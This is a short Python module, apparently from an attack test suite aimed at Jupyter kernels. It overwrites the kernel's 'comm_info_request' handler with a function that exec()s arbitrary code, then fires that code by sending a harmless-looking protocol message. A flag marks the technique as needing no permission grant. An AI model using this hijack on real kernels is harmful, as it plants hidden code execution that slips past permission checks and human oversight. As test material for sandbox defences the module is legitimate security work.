"""A message that runs nothing by itself, after an earlier cell has replaced what answers it."""

from __future__ import annotations

from attack_house import Client

NEEDS_NO_GRANT = True


def prepare(client: Client, code: str) -> None:
    client.run(
        f"async def trap(socket, ident, parent): exec({code!r})\n"
        "get_ipython().kernel.shell_handlers['comm_info_request'] = trap"
    )


def strike(client: Client, code: str) -> str:
    return client.send("comm_info_request", {})
